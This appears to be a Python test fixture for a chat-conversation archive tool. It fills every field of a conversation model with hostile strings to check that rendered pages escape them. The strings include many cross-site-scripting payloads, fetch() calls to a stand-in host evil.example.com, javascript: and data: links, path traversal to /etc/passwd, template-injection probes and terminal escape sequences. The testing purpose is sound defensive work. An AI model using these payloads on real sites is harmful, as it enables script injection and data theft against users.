"""A conversation whose author wants to get out of it.

Every text field of the model holds something that would run, load or send if a page took it for more than text. The
fields are taken from the model's types, so that new ones are hostile too.
"""

from __future__ import annotations

import json
import types
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints

import msgspec

from copilog.diagnostics import Ledger
from copilog.model import (
    AnyPart,
    Attachment,
    Branch,
    Confirmation,
    Conversation,
    FileChange,
    FileState,
    Message,
    Notice,
    Place,
    Provenance,
    Queued,
    Reference,
    Relation,
    ResultItem,
    ToolCall,
    ToolResult,
    Turn,
    Workspace,
)
from copilog.store.archive import Archive
from tests.stored import concluded_entry

NOON = datetime(2026, 5, 4, 12, 0, tzinfo=UTC)
RUN = "window.ran=1;alert(1);fetch('https://evil.example.com/run')"
PICTURE = "https://evil.example.com/picture.png"
NAME = f"\"'><img src=x onerror={RUN}></title></script></textarea></style><script>{RUN}</script>{{{{7*7}}}}"
ID = f"vscode:../{NAME}&id=other#there"
PATH = f"../../../../etc/passwd/{NAME}"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
ESCAPES = (
    f"\x1b]8;;javascript:{RUN}\x1b\\a link\x1b]8;;\x1b\\ \x1b]0;a title\x07\x1b[2J\x1b[1;31mred<b>\x1b[0m \x9b31m"
    f"\x1b]52;c;aGk=\x07\x1bP+q\x1b\\ \x00 \x08 \u202eturned\u202c <script>{RUN}</script>\r<img src={PICTURE}>"
)

PROSE = f"""</script></textarea></title></style></template></noscript>--> ]]>
<script>{RUN}</script><script src="https://evil.example.com/a.js"></script>
<img src=x onerror="{RUN}"> <svg onload="{RUN}"><a xlink:href="javascript:{RUN}"></a></svg>
<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="{PICTURE}"></object><base href="https://evil.example.com/">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/"><link rel="stylesheet" href="https://evil.example.com/a.css">
<div hx-get="https://evil.example.com/" hx-trigger="load" data-hx-on:load="{RUN}"></div>
<p style="background:url({PICTURE})" hx-on:click="{RUN}">a paragraph</p>
<form action="https://evil.example.com/"><button autofocus onfocus="{RUN}">Go</button></form>

![a picture]({PICTURE}) ![another](//evil.example.com/p.png) ![svg](data:image/svg+xml;base64,PHN2Zy8+)
[script](javascript:{RUN}) [SCRIPT](JaVaScRiPt:{RUN}) [tab](java&#9;script:{RUN})
[data](data:text/html,<script>{RUN}</script>)
[command](command:workbench.action.terminal.new) [file](file:///etc/passwd) [vscode](vscode://ana.example/run)
[quote](https://example.com/"onmouseover="{RUN}) <javascript:{RUN}> <https://example.com/a"onclick="{RUN}>

[named]: javascript:{RUN} "'><script>{RUN}</script>"

A [named] link, a <details ontoggle="{RUN}" open><summary>fold</summary></details>, and {{{{ 7*7 }}}}{{% raw %}}.

| <script>{RUN}</script> | {NAME} |
|---|---|
| <img src=x onerror={RUN}> | `</code></pre><script>{RUN}</script>` |

```"><script>{RUN}</script>
</code></pre></div><script>{RUN}</script>
```

```html
<script>{RUN}</script>
```

{ESCAPES}
"""
DIFF = (
    f"--- a/{NAME}\n+++ b/{NAME}\n@@ -1,2 +1,2 @@ <script>{RUN}</script>\n-<img src=x onerror={RUN}>\n+{NAME}\n same\n"
)
ARGUMENTS = json.dumps({NAME: PROSE, "path": PATH, "command": ESCAPES})
# Fields that are read as something, by name; all other texts are names, and long ones prose.
BY_NAME: dict[str, Any] = {
    "arguments": ARGUMENTS,
    "diff": DIFF,
    "path": PATH,
    "cwd": PATH,
    "folder": PATH,
    "file": PATH,
    "full_text_path": PATH,
    "uri": f"javascript:{RUN}//{NAME}",
    "new_uri": f"command:run?{NAME}",
    "old_uri": f"data:text/html,<script>{RUN}</script>",
    "mime_type": "image/svg+xml",
    "data": SVG,
    "output": ESCAPES,
    "command": ESCAPES,
    "text": PROSE,
    "message": PROSE,
    "display": PROSE,
    "full_text": ESCAPES,
    "prompt": PROSE,
    "result": PROSE,
    "before": PROSE,
    "after": PROSE.upper(),
    "description": PROSE,
    "instructions": PROSE,
}


def hostile(kind: Any, name: str = "") -> Any:
    """Return a value of a type, with hostile text in every string."""
    origin = get_origin(kind)
    if kind is str or kind is Any:
        return BY_NAME.get(name, NAME) if not isinstance(BY_NAME.get(name), bytes) else NAME
    if origin in (Union, types.UnionType):
        return hostile(next(choice for choice in get_args(kind) if choice is not type(None)), name)
    if origin is Literal:
        return get_args(kind)[0]
    if origin is list:
        return [hostile(get_args(kind)[0], name)]
    if origin is dict or kind is dict:
        return {NAME: PROSE}
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
        return hostile_struct(kind)
    plain: dict[Any, Any] = {int: 1, float: 1.5, bool: True, bytes: SVG, datetime: NOON}
    return plain[kind]


def hostile_struct(kind: type[Any], **fixed: Any) -> Any:
    """Return a struct of the model, hostile except for the given fields."""
    hints = get_type_hints(kind)
    if kind.__name__ == "TreeNode":
        fixed = {"children": [], **fixed}  # it holds itself
    values = {field: hostile(hint, field) for field, hint in hints.items() if field not in fixed}
    return kind(**{name: value for name, value in values.items() if name in kind.__struct_fields__}, **fixed)


def hostile_parts() -> list[AnyPart]:
    """Return every kind of part, and variants that pages show differently."""
    remote = Place(uri=PICTURE, path=PATH, name=NAME)
    return [
        *(hostile_struct(kind) for kind in get_args(AnyPart)),
        hostile_struct(Attachment, type="image", mime_type="image/svg+xml", data=SVG),
        hostile_struct(Attachment, type="image", mime_type='text/html"><script>', data=SVG),
        hostile_struct(Attachment, type="image", data=None, place=remote),
        hostile_struct(Attachment, type="file", data=None, text=None, place=Place(path=PATH, uri="file:///etc/passwd")),
        hostile_struct(Attachment, type="file", mime_type="text/html", data=PROSE.encode(), text=None),
        hostile_struct(ToolResult, origin="terminal", text=ESCAPES),
        hostile_struct(ToolResult, items=[ResultItem(mime_type="text/html", data=SVG), ResultItem(place=remote)]),
        hostile_struct(ToolCall, status="failed", arguments=PROSE),
        hostile_struct(Confirmation, type="questions", state="answered"),
        hostile_struct(Confirmation, type="confirmation", state="accepted"),
        *(hostile_struct(Notice, topic=topic) for topic in ("warning", "progress", "command", "mcp-servers")),
        *(hostile_struct(Reference, type=form, place=remote) for form in ("inline", "code-block", "pull-request")),
    ]


def hostile_conversation(**fixed: Any) -> Conversation:
    """Return a conversation that would take over a page that does not escape it."""
    roles = ("system", "user", "assistant", "tool")
    messages = [
        hostile_struct(Message, role=role, turn=0, parent_call_id=None, parts=hostile_parts()) for role in roles
    ]
    messages.append(hostile_struct(Message, role="assistant", turn=1, parent_call_id=NAME, parts=hostile_parts()))
    messages.append(hostile_struct(Message, role="assistant", turn=1, parent_call_id=None, parts=hostile_parts()))
    messages.append(hostile_struct(Message, role="user", turn=2, parent_call_id=None, parts=hostile_parts()))
    branch = hostile_struct(Branch, leaves_from=0)
    values: dict[str, Any] = {
        "id": ID,
        "source": "vscode-session",
        "workspace": hostile_struct(Workspace),
        "started_at": NOON,
        "updated_at": NOON,
        "turns": [
            hostile_struct(Turn, index=0, status="failed", superseded=None, branch=None),
            hostile_struct(Turn, index=1, status="complete", superseded=None, branch=branch),
            hostile_struct(Turn, index=2, branch=branch),
        ],
        "messages": messages,
        "queued": [hostile_struct(Queued, message=messages[1])],
        "file_changes": [hostile_struct(FileChange, turn=0)],
        "files": [hostile_struct(FileState)],
        "relations": [hostile_struct(Relation)],
        "provenance": [hostile_struct(Provenance, source="vscode-session")],
        "draft": None,
    }
    made: Conversation = hostile_struct(Conversation, **{**values, **fixed})
    return made


def make_hostile_archive(path: Path) -> Path:
    """Return an archive of the hostile conversation, with a label and a note, and a file with problems."""
    with Archive(path, write=True) as archive:
        archive.put(concluded_entry(hostile_conversation()), "1")
        archive.index_pending()
        archive.star(ID)
        archive.label(ID, NAME)
        archive.note(ID, PROSE)
        ledger = Ledger(path=PATH, source=NAME)
        ledger.note(NAME, PROSE, level="error", pointer=NAME)
        archive.put_ledger(ledger)
    return path
